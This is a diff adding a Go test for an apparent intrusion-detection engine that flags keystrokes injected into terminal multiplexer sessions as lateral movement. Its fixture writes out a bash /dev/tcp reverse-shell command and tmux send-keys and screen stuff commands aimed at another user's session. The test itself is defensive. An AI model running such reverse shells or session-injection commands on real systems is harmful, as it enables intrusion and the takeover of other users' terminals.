@@ -66,3 +66,43 @@ func TestMadeRunnableInChannelRunByRoot(t *testing.T) {
 		})
 	}
 }
+
+// TestTerminalSessionKeys: keystrokes sent into a terminal multiplexer's
+// session from inside the intrusion's channel are another account's
+// commands typed for the intruder (shop-specsheet: root's beacon task
+// ran tmux -S /tmp/tmux-2002/default send-keys into the admin's open
+// session); the same from an administrator's own login is hers.
+func TestTerminalSessionKeys(t *testing.T) {
+	for _, c := range []struct {
+		name    string
+		channel bool
+		args    []string
+		want    bool
+	}{
+		{"tmux send-keys in a channel", true, []string{"tmux", "-S", "/tmp/tmux-2002/default", "send-keys", "-t", "ops", "id", "Enter"}, true},
+		{"screen stuff in a channel", true, []string{"screen", "-S", "ops", "-X", "stuff", "id\n"}, true},
+		{"tmux list-sessions in a channel", true, []string{"tmux", "-S", "/tmp/tmux-2002/default", "ls"}, false},
+		{"an administrator's own send-keys", false, []string{"tmux", "send-keys", "-t", "build", "make", "Enter"}, false},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			e, s := webShellScene(t)
+			parent, uid, user := 201, uint32(33), "www-data"
+			if c.channel {
+				e.Observe(s.exec(210, 201, 33, "www-data", "/tmp", "/usr/bin/bash", "bash", "-c", "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1"), s.tree)
+				e.Observe(s.connect(210, 201, 33, "/usr/bin/bash", "127.0.0.1", 4444), s.tree)
+				parent = 210
+			} else {
+				s.exec(300, 1, 0, "root", "/root", "/usr/sbin/sshd", "sshd: alice [priv]")
+				s.exec(301, 300, 2002, "alice", "/home/alice", "/usr/bin/bash", "-bash")
+				parent, uid, user = 301, 2002, "alice"
+			}
+			got := findingOf(e.Observe(s.exec(220, parent, uid, user, "/tmp", "/usr/bin/"+c.args[0], c.args...), s.tree), "terminal-session-keys")
+			if (got != nil) != c.want {
+				t.Fatalf("terminal-session-keys %v, want %v", got != nil, c.want)
+			}
+			if got != nil && got.Stage != StageLateralMovement {
+				t.Errorf("stage %v, want lateral movement", got.Stage)
+			}
+		})
+	}
+}
